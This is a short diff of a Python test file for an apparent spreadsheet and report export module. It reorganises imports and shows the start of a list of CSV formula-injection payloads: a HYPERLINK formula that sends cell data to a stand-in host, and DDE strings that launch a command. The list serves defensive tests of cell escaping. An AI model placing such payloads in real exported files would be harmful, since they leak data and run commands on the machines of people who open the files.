@@ -14,10 +14,10 @@ from pathlib import Path
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
+from ward_desk.reports.cells import Table
+from ward_desk.reports.export import render_assessment, render_report
+from ward_desk.reports.xlsx import workbook_bytes
 
-from reports.cells import Table
-from reports.export import render_assessment, render_report
-from reports.xlsx import workbook_bytes
 from ward_desk.domain.text import cell_text, csv_cell, runs_as_formula
 
 PAYLOADS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"Xem\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
